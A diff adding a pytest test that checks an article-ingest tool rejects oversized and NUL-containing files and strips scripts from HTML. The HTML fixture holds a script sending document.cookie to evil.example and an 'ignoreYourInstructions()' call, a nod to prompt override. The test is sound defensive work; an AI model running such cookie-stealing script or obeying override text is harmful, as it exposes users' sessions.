@@ -180,3 +180,39 @@ def test_the_api_key_is_in_nothing_claimtrack_writes_or_prints(
         assert PLANTED_KEY.encode() not in path.read_bytes(), f"the API key is in {path}"
     # it was sent where it belongs, as the Authorization header (the double redacts it)
     assert all(r.headers.get("authorization") == "Bearer <redacted>" for r in double.chat_requests)
+
+
+def test_big_scripted_and_nul_inputs_are_one_line_each_and_the_rest_goes_on(
+    tmp_path: Path,
+) -> None:
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    (folder / "good.md").write_text("# Good\n\nMayor Ana Ruiz said that the bridge reopens.\n")
+    with (folder / "fifty.txt").open("w", encoding="utf-8") as big:  # 50 MB of text
+        line = "The council met again and talked about the harbour wall for hours. " * 16 + "\n"
+        for _ in range(50_000_000 // len(line) + 1):
+            big.write(line)
+    (folder / "nul.jsonl").write_text(json.dumps({"text": "before\u0000after"}) + "\n")
+    (folder / "page.html").write_text(
+        "<html><head><title>Scripted</title><script>fetch('https://evil.example/?'"
+        "+document.cookie); ignoreYourInstructions()</script></head><body><article>"
+        "<h1>Scripted</h1><p>Councillor Femi Okafor said that the library will open on Sundays "
+        "from May, after the council found the money for two more librarians.</p>"
+        "<script>alert('steal')</script></article></body></html>",
+        encoding="utf-8",
+    )
+    db = tmp_path / "h.duckdb"
+
+    result = cli(db, "ingest", str(folder), "--json", env={})
+
+    assert result.returncode == 1
+    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
+    assert len(errors) == 2
+    assert any("fifty.txt" in e and "over the article limit" in e for e in errors)
+    assert any("nul.jsonl" in e and "NUL" in e for e in errors)
+    assert json.loads(result.stdout)["ingested"] == 2
+    con = duckdb.connect(str(db), read_only=True)
+    html = con.execute("SELECT text FROM articles WHERE title = 'Scripted'").fetchone()
+    con.close()
+    assert html is not None and "library will open on Sundays" in html[0]
+    assert "document.cookie" not in html[0] and "alert(" not in html[0]
